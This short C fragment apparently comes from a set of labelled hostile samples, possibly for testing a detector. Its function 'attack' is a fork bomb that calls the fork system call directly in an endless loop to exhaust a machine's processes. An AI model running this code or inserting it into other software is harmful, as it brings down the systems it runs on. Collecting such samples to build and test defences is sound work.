/* The same by the old system call, past the C library. */
#include "hostile.h"

static int attack(void) {
  for (;;) syscall(SYS_fork);
  return harmless();
}
